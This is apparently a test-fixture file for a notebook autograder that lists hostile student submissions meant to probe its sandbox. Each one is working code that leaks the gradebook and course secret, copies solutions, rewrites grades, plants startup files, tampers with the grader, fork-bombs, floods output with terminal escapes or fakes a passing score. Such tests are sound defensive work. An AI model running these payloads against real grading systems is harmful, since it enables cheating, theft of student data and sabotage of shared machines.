"""Attacks on the machine: files, sockets, signals, resources, floods, leftovers, and ends that no handler sees."""

from tests.hostile import Hostile, family, stubs

#: Tries each of these and says which could be opened. Nothing of it is the job's own.
_READS = """
import glob, os
def leak(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    print(LEAKED, path, file.read(200))
            except OSError:
                pass
"""
#: Where a course's folder may lie, as seen from the one that a notebook runs in.
_COURSE = "../../../.."
_HANG = "while True:\n    pass"

SUBMISSIONS = [
    *family(
        "Reading and writing files",
        Hostile(
            "reads-gradebook",
            "Reads everybody's grades and the secret that the questions are drawn from.",
            _READS + f"leak('{_COURSE}/gradebook.db', '{_COURSE}/course_secret', '/**/gradebook.db')",
        ),
        Hostile(
            "reads-solution",
            "Finds the solved notebook in the course's folder and runs its answers.",
            _READS
            + f"""
import json
for path in glob.glob("{_COURSE}/assignments/source/**/*.ipynb", recursive=True) + glob.glob("**/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        name = cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id")
        if name in FULL and "NotImplementedError" not in source:
            exec(source)
            globals()[f"good_{{name}}"] = globals()[name]
""",
            stubs("return globals()[f'good_{name}'](*args)"),
        ),
        Hostile(
            "reads-others",
            "Reads what the others handed in and runs their answers.",
            f"""
import glob, json
for path in glob.glob("{_COURSE}/assignments/submitted/*/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        name = cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id")
        if name in FULL and "NotImplementedError" not in source:
            exec(source)
            globals()[f"good_{{name}}"] = globals()[name]
""",
            stubs("return globals()[f'good_{name}'](*args)"),
        ),
        Hostile(
            "reads-processes",
            "Reads what other processes were started with, their environment and their open files.",
            """
import glob, os
for number in glob.glob("/proc/[0-9]*"):
    if number != f"/proc/{os.getpid()}":
        for name in ("cmdline", "environ", "maps"):
            try:
                with open(f"{number}/{name}", "rb") as file:
                    text = file.read(300)
                    if text:
                        print(LEAKED, number, name, text)
            except OSError:
                pass
""",
        ),
        Hostile(
            "writes-grades",
            "Opens the gradebook, gives everybody 0 points and makes the checks worth next to nothing.",
            f"""
import glob, sqlite3
for path in glob.glob("{_COURSE}/gradebook.db"):
    base = sqlite3.connect(path)
    base.execute("update grade set auto_score = 0, manual_score = 0")
    base.execute("update grade_cells set max_score = 0.25")
    base.commit()
""",
        ),
        Hostile(
            "writes-grades-later",
            "Leaves a process behind that gives this student full marks once the grades are in.",
            f"""
import os, subprocess, sys
code = '''
import sqlite3, time
for _ in range(600):
    time.sleep(0.2)
    try:
        base = sqlite3.connect("{_COURSE}/gradebook.db")
        base.execute(
            "update grade set auto_score = (select max_score from grade_cells where id = grade.cell_id) "
            "where exists ("
            "select 1 from submitted_notebook n join submitted_assignment s on s.id = n.assignment_id "
            "where n.id = grade.notebook_id and s.student_id = 'writes-grades-later')")
        base.commit()
        base.close()
    except sqlite3.Error:
        pass
'''
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
""",
        ),
        Hostile(
            "writes-others",
            "Overwrites what the others handed in.",
            f"""
import glob
for path in glob.glob("{_COURSE}/assignments/submitted/*/*/*.ipynb"):
    if "/writes-others/" not in path:
        with open(path, "w") as file:
            file.write('{{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}}')
""",
        ),
        Hostile(
            "writes-startup",
            "Leaves a file that IPython runs at the start of every later notebook, to spoil the others' answers.",
            """
import os, site
code = "import builtins\\nbuiltins.__build_class__ = builtins.isinstance = None\\n"
for folder in ("~/.ipython/profile_default/startup", site.getusersitepackages()):
    folder = os.path.expanduser(folder)
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("00-first.py", "usercustomize.py"):
            with open(os.path.join(folder, name), "w") as file:
                file.write(code)
    except OSError:
        pass
""",
        ),
        Hostile(
            "writes-checks",
            "Changes the files of the course's own checks, so that the next to be graded meets others.",
            """
import importlib.util, os
for name in ("autograder", "source_lib", "numpy", "IPython"):
    spec = importlib.util.find_spec(name) if name != "autograder" else None
    import sys
    folders = list(spec.submodule_search_locations) if spec else list(getattr(sys.modules[name], "__path__", []))
    for folder in folders:
        for target in ("checks/compare.py", "testing/__init__.py", "__init__.py"):
            try:
                with open(os.path.join(folder, target), "a") as file:
                    file.write("\\ndifference = lambda got, expected: 'nobody is right'\\n")
            except OSError:
                pass
""",
        ),
        Hostile(
            "writes-everywhere",
            "Writes a file wherever the system lets it.",
            f"""
import os
places = ["{_COURSE}", "/", "/tmp", "/var/tmp", "/dev/shm", "/usr/local", "/etc", "/run", "/home", "/srv", "/opt",
          os.path.expanduser("~")]
for place in places + ["../" * depth for depth in range(1, 8)]:
    try:
        with open(os.path.join(place, MARKER), "w") as file:
            file.write("x")
    except OSError:
        pass
""",
        ),
    ),
    *family(
        "Sockets",
        Hostile(
            "socket-calls-home",
            "Calls an address outside, by name and by number.",
            """
import socket
for address in (("127.0.0.1", 22), ("192.0.2.1", 80), ("example.org", 80)):
    try:
        socket.create_connection(address, timeout=1)
        print(LEAKED, "a connection to", address)
    except OSError:
        pass
""",
        ),
        Hostile(
            "socket-kinds",
            "Opens a socket of every kind that the kernel knows.",
            """
import socket
for kind in range(2, 45):
    for way in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(kind, way).close()
            print(LEAKED, "a socket of family", kind)
        except OSError:
            pass
""",
        ),
        Hostile(
            "socket-waits",
            "Opens a door under an abstract name and waits there for the next student.",
            """
import os, socket
for name in ("\\0" + MARKER, "/tmp/" + MARKER + ".socket"):
    try:
        end = socket.socket(socket.AF_UNIX)
        end.connect(name)
        print(LEAKED, "somebody waited at", name)
    except OSError:
        pass
    try:
        door = socket.socket(socket.AF_UNIX)
        door.bind(name)
        door.listen()
    except OSError:
        pass
""",
        ),
    ),
    *family(
        "Signals",
        Hostile(
            "signal-kills",
            "Kills its parent, its group, and every process that it may.",
            "import os, signal\nfor pid in (os.getppid(), 0, -1, 1):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass",
            solved=True,
            points=35,
        ),
        Hostile(
            "signal-stops",
            "Stops itself, so that it neither answers nor ends.",
            "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nimport time\ntime.sleep(10**6)",
            solved=True,
            points=35,
        ),
    ),
    *family(
        "Exhausting the machine",
        Hostile(
            "takes-memory",
            "Takes memory until there is none.",
            "kept = []\nwhile True:\n    kept.append(bytearray(10**9))",
            solved=True,
            points=35,
        ),
        Hostile(
            "takes-disk",
            "Fills every folder that it may write to.",
            """
import os
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(100):
            with open(os.path.join(place, f"filler-{number}"), "wb") as file:
                file.write(bytes(10**7))
    except OSError:
        pass
""",
            solved=True,
            points=35,
        ),
        Hostile(
            "takes-processes",
            "Starts processes that start processes.",
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
            solved=True,
            points=35,
        ),
        Hostile(
            "takes-processes-of-the-course",
            "Asks for a run with Keras, and there takes all processes that the course's own answers may need.",
            """
import os, time
import keras
started = 0
try:
    layer = keras.layers.Dense(1)
    while started < 10_000:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
except Exception as error:
    print(error)
""",
        ),
        Hostile(
            "takes-descriptors",
            "Opens files until no descriptor is left.",
            "kept = []\ntry:\n    while True:\n        kept.append(open('/dev/null'))\nexcept OSError:\n    pass",
            solved=True,
        ),
        Hostile(
            "takes-processor",
            "Loops for ever in a cell.",
            _HANG,
            solved=True,
            points=35,
        ),
        Hostile(
            "takes-processor-aside",
            "Keeps every processor busy while its speed is measured, so that the course looks slow beside it.",
            """
import os
def busy():
    for _ in range(16):
        if os.fork() == 0:
            while True:
                pass
""",
            {
                "fast_conv2d_layer": """
def fast_conv2d_layer(x, W, b, act):
    if not globals().get("begun"):
        globals()["begun"] = True
        busy()
    return np.zeros((*x.shape[:3], W.shape[3]))
"""
            },
        ),
    ),
    *family(
        "Output floods",
        Hostile(
            "flood-text",
            "Prints fifty megabytes.",
            "print('x' * 50_000_000)",
            solved=True,
            points=35,
        ),
        Hostile(
            "flood-error",
            "Raises an error with a text of a hundred megabytes, whose class has a name of one.",
            "Loud = type('L' * 10**6, (Exception,), {'__str__': lambda self: 'z' * 10**8})\nraise Loud",
            solved=True,
            points=35,
        ),
        Hostile(
            "flood-answers",
            "Answers with arrays as large as they may be, and errors as long.",
            "import numpy as np",
            stubs("if len(args) % 2: raise ValueError('z' * 10**7)\n    return np.zeros(15 * 2**20, dtype=np.int8)"),
        ),
        Hostile(
            "flood-page",
            "Writes escapes, controls and right-to-left marks for the terminal and the page of whoever reads.",
            r"print('\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u2066\ufeff\x00\x9b2J' * 500)"
            "\nprint('\\\\href{javascript:alert(1)}{x}' * 99)",
            solved=True,
            points=35,
        ),
    ),
    *family(
        "Leftover processes",
        Hostile(
            "left-daemon",
            "Forks twice, in a session of its own, so that nobody is its parent.",
            """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "98762"])
    os._exit(0)
""",
            solved=True,
            points=35,
        ),
        Hostile(
            "left-handlers",
            "Leaves handlers that start a program when the process ends, however it ends.",
            """
import atexit, os, signal, subprocess
def start(*arguments):
    subprocess.Popen(["sleep", "98763"], start_new_session=True)
atexit.register(start)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, start)
""",
            solved=True,
            points=35,
        ),
    ),
    *family(
        "Ends that no handler sees",
        Hostile("end-exit", "Leaves the process at once.", "import os\nos._exit(0)", solved=True, points=35),
        Hostile("end-abort", "Aborts the process.", "import os\nos.abort()", solved=True, points=35),
        Hostile("end-kill", "Kills itself.", "import os\nos.kill(os.getpid(), 9)", solved=True, points=35),
        Hostile(
            "end-segfault",
            "Reads memory that is not there.",
            "import ctypes\nctypes.string_at(0)",
            solved=True,
            points=35,
        ),
        Hostile(
            "end-replaced",
            "Becomes another program that says that all is well.",
            "import os\nos.execv('/bin/echo', ['echo', '35.0'])",
            solved=True,
            points=35,
        ),
    ),
]
